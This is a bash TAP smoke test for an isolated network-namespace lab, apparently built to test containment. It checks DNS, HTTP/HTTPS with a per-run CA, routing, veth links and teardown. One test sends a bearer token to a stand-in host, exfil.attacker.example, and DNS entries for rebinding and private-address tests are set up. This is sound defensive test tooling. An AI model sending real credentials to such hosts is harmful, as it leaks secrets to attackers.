#!/bin/bash
# tests/lab/smoke.sh - TAP: the test lab itself works and stays contained.
# Re-exec under bash when run by a plain sh (automake runs `$(SHELL) smoke.sh`).
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"

lab_preflight
tap_plan 24
lab_trap
lab_up || tap_bail "lab_up failed"
tap_diag "lab prefix $LAB_PREFIX, dir $LAB_DIR"

CURL=(curl -sS --max-time 5)
UA="enclave-smoke-$LAB_PREFIX"

# expect DESC GOT WANT
expect() {
	if [ "$2" = "$3" ]; then ok "$1"; else
		not_ok "$1"; tap_diag "got:  $2" "want: $3"
	fi
}

# --- 1. DNS from lab, over the veth, to the lab dnsmasq -------------------
got=$(lab_exec lab getent ahostsv4 allowed.test | awk '$2 == "STREAM" { print $1 }')
expect "getent in lab resolves allowed.test via /etc/netns resolv.conf" \
	"$got" "$LAB_ADDR_ALLOWED"
expect "DNS allowed.test -> $LAB_ADDR_ALLOWED" \
	"$(lab_dns_query lab allowed.test)" "NOERROR $LAB_ADDR_ALLOWED"
expect "DNS api.allowed.test -> $LAB_ADDR_API" \
	"$(lab_dns_query lab api.allowed.test)" "NOERROR $LAB_ADDR_API"
expect "DNS rebind.test answers $LAB_ANSWER_REBIND, private.test $LAB_ANSWER_PRIVATE" \
	"$(lab_dns_query lab rebind.test) / $(lab_dns_query lab private.test)" \
	"NOERROR $LAB_ANSWER_REBIND / NOERROR $LAB_ANSWER_PRIVATE"
expect "DNS unknown.test and sub.allowed.test are NXDOMAIN" \
	"$(lab_dns_query lab unknown.test) / $(lab_dns_query lab sub.allowed.test)" \
	"NXDOMAIN / NXDOMAIN"
missing=""
for n in allowed.test api.allowed.test rebind.test private.test unknown.test \
	sub.allowed.test; do
	grep -qF "query[A] $n from $LAB_LINK_ADDR" "$LAB_DNSMASQ_LOG" ||
		missing="$missing $n"
done
expect "every query appears in dnsmasq.log, from lab's address" "${missing:-none}" none
got=$(lab_exec inet ss -Hlnu 'sport = :53' | awk '{ print $4 }' | sort -u | tr '\n' ' ')
expect "dnsmasq listens on $LAB_DNS:53 only" "$got" "$LAB_DNS:53 "

# --- 2. HTTP from lab --------------------------------------------------------
expect "HTTP allowed.test says hello" \
	"$(lab_exec lab "${CURL[@]}" -A "$UA-http" http://allowed.test/)" "hello from allowed.test"
expect "HTTP other.test says hello" \
	"$(lab_exec lab "${CURL[@]}" -A "$UA-http" http://other.test/)" "hello from other.test"
expect "HTTP /headers echoes Authorization" \
	"$(lab_exec lab "${CURL[@]}" -H 'Authorization: Bearer smoke' http://exfil.attacker.example/headers)" \
	"Bearer smoke"
n=$(grep -cE "^[^ ]+ $LAB_LINK_ADDR $LAB_ADDR_ALLOWED:80 http allowed.test \"GET / HTTP/1.1\" 200 .*\"$UA-http\"" \
	"$LAB_ACCESS_LOG")
expect "allowed.test request is in access.log" "$n" 1
n=$(grep -cE " $LAB_ADDR_OTHER:80 http other.test \"GET / .*\"$UA-http\"" "$LAB_ACCESS_LOG")
expect "other.test request is in access.log" "$n" 1

# --- 3. HTTPS, verified against the per-run CA ------------------------------
expect "HTTPS allowed.test verifies with --cacert LAB_CA" \
	"$(lab_exec lab "${CURL[@]}" --cacert "$LAB_CA" https://allowed.test/)" "hello from allowed.test"
expect "HTTPS api.allowed.test, other.test, exfil.attacker.example verify too" \
	"$(for h in api.allowed.test other.test exfil.attacker.example; do
		lab_exec lab "${CURL[@]}" --cacert "$LAB_CA" "https://$h/"; done | tr '\n' ' ')" \
	"hello from api.allowed.test hello from other.test hello from exfil.attacker.example "
lab_exec lab "${CURL[@]}" -o /dev/null https://allowed.test/ 2>/dev/null
expect "HTTPS without LAB_CA fails verification (curl exit 60)" "$?" 60
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
	-keyout "$LAB_DIR/wrong-ca.key" -out "$LAB_DIR/wrong-ca.crt" -days 1 \
	-subj "/CN=wrong CA" >/dev/null 2>&1
lab_exec lab "${CURL[@]}" -o /dev/null --cacert "$LAB_DIR/wrong-ca.crt" https://allowed.test/ 2>/dev/null
expect "HTTPS with a different CA fails verification (curl exit 60)" "$?" 60
[ "$(stat -c %a "$LAB_DIR/tls/ca.key")" = 600 ]
tap_ok $? "CA key is mode 0600 inside LAB_DIR"

# --- 4. routes: nothing outside 198.18.0.0/15 -------------------------------
check_routes() { # NS
	local ns=$1
	python3 - "$ns" "$LAB_NET" \
		"$(ip -j -4 -n "$ns" route show table all)" \
		"$(ip -j -6 -n "$ns" route show table all 2>/dev/null || echo '[]')" \
		"$(ip -j -n "$ns" addr show)" \
		"$(lab_exec "$ns" sysctl -n net.ipv6.conf.all.disable_ipv6 net.ipv6.conf.default.disable_ipv6 | tr '\n' ' ')" <<'EOF'
import ipaddress, json, sys
ns, net, r4, r6, addrs, v6off = sys.argv[1:]
net = ipaddress.ip_network(net)
bad = []
if v6off.split() != ["1", "1"]:
    bad.append("ipv6 not disabled: %s" % v6off)
if json.loads(r6 or "[]"):
    bad.append("ipv6 routes present: %s" % r6)
own = set()
for link in json.loads(addrs):
    for a in link.get("addr_info", []):
        if a.get("family") == "inet6":
            bad.append("ipv6 address %s on %s" % (a["local"], link["ifname"]))
        own.add(a["local"])
for r in json.loads(r4):
    dst = r.get("dst", "")
    if dst == "default":
        bad.append("default route: %s" % r)
        continue
    d = ipaddress.ip_network(dst, strict=False)
    if d.subnet_of(net):
        continue
    if r.get("type") in ("local", "broadcast") and (
            r.get("dev") == "lo" or r.get("prefsrc") in own):
        continue
    bad.append("route outside %s: %s" % (net, r))
for b in bad:
    print(b)
sys.exit(1 if bad else 0)
EOF
}
tap_check "lab: no default route, IPv6 off, every route inside $LAB_NET" \
	check_routes "$LAB_NS"
tap_check "inet: no default route, IPv6 off, every route inside $LAB_NET" \
	check_routes "$INET_NS"

# --- 5. links: lab's only link goes to inet, nothing in the root netns ------
check_links() {
	python3 - "$LAB_IF" "$INET_IF" "$LAB_NS" "$INET_NS" \
		"$(ip -j -d -n "$LAB_NS" link show)" "$(ip -j -d -n "$INET_NS" link show)" \
		"$(ip -j -n "$LAB_NS" netns list-id)" "$(ip -j -n "$INET_NS" netns list-id)" <<'EOF'
import json, sys
lab_if, inet_if, lab_ns, inet_ns, llinks, ilinks, lids, iids = sys.argv[1:]
llinks, ilinks = json.loads(llinks), json.loads(ilinks)
lids = {e["nsid"]: e.get("name") for e in json.loads(lids or "[]")}
iids = {e["nsid"]: e.get("name") for e in json.loads(iids or "[]")}
bad = []
others = [l["ifname"] for l in llinks if l["ifname"] != "lo"]
if others != [lab_if]:
    bad.append("lab non-lo links %s, want [%s]" % (others, lab_if))
def peer_ok(links, ifname, ids, want_ns, peer_links, peer_if):
    l = [x for x in links if x["ifname"] == ifname]
    if not l:
        return "%s missing" % ifname
    l = l[0]
    if l.get("linkinfo", {}).get("info_kind") != "veth":
        return "%s is not a veth" % ifname
    if "link_netnsid" not in l:
        return "%s peer is in its own netns" % ifname
    if ids.get(l["link_netnsid"]) != want_ns:
        return "%s peer netnsid %s is %s, want %s" % (
            ifname, l["link_netnsid"], ids.get(l["link_netnsid"]), want_ns)
    p = [x for x in peer_links if x["ifname"] == peer_if]
    if not p or p[0]["ifindex"] != l.get("link_index"):
        return "%s peer ifindex does not match %s" % (ifname, peer_if)
    return None
for e in (peer_ok(llinks, lab_if, lids, inet_ns, ilinks, inet_if),
          peer_ok(ilinks, inet_if, iids, lab_ns, llinks, lab_if)):
    if e:
        bad.append(e)
for b in bad:
    print(b)
sys.exit(1 if bad else 0)
EOF
}
tap_check "lab's only link is the veth whose peer is in inet" check_links
n=$(ip -o link show | grep -cF -- "$LAB_PREFIX")
expect "root namespace has no interface named *$LAB_PREFIX*" "$n" 0

# --- 6. teardown leaves nothing ----------------------------------------------
state=$LAB_DIR/second-lab.state
(
	unset LAB_PREFIX
	trap lab_down EXIT
	lab_up || exit 1
	{
		echo "prefix=$LAB_PREFIX"
		echo "dir=$LAB_DIR"
		echo "etc=$LAB_NETNS_ETC"
		echo "ns=$LAB_NS $INET_NS"
		echo "pids=$(lab_pids | tr '\n' ' ') $(ip netns pids "$LAB_NS"; ip netns pids "$INET_NS")"
	} | tr '\n' ' ' >"$state"
	echo >>"$state"
	lab_down
	lab_down
	echo "down-twice-ok" >>"$state"
) 2>"$LAB_DIR/second-lab.err"
st=$?
second=$(head -n 1 "$state" 2>/dev/null)
p2=$(echo "$second" | sed -n 's/.*prefix=\([a-z0-9]*\) .*/\1/p')
d2=$(echo "$second" | sed -n 's/.* dir=\([^ ]*\) .*/\1/p')
e2=$(echo "$second" | sed -n 's/.* etc=\([^ ]*\) .*/\1/p')
pids2=$(echo "$second" | sed -n 's/.* pids=\(.*\)$/\1/p')
tap_diag "second lab: $second"
if [ "$st" -ne 0 ] || [ -z "$p2" ] || [ "$p2" = "$LAB_PREFIX" ] || [ -z "$d2" ] ||
	[ -z "$e2" ] || ! echo "$pids2" | grep -q '[0-9]'; then
	not_ok "second lab came up and went down in a subshell"
	tap_diag "$(cat "$LAB_DIR/second-lab.err")"
else
	ok "second lab ($p2) came up and went down in a subshell"
fi
left=""
ip netns list | grep -q "^$p2" && left="$left netns"
# The daemons were reparented to PID 1 when they daemonised; a dead one can
# stay a zombie until PID 1 reaps it, so give kill -0 a bounded 5 s.
for pid in $pids2; do
	for _ in $(seq 1 100); do
		kill -0 "$pid" 2>/dev/null || break
		sleep 0.05
	done
	if kill -0 "$pid" 2>/dev/null; then
		left="$left pid:$pid($(awk '{ print $3 }' "/proc/$pid/stat" 2>/dev/null))"
	fi
done
[ -e "$d2" ] && left="$left $d2"
[ -e "$e2" ] && left="$left $e2"
ip -o link show | grep -qF -- "$p2" && left="$left root-link"
expect "after lab_down: no netns, pid, LAB_DIR, /etc/netns entry left" "${left:-nothing}" nothing
expect "lab_down twice is harmless" "$(sed -n 2p "$state")" down-twice-ok

tap_done
